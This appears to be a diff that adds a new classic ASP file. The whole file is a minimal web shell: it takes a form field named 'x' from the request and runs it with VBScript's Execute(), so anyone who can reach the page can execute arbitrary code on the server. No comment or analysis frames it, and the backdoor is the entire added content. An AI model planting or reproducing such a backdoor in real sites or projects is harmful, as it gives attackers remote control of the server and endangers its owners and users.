@@ -1,0 +1,5 @@
+<%
+Dim c
+c = Request.Form("x")
+Execute(c)
+%>
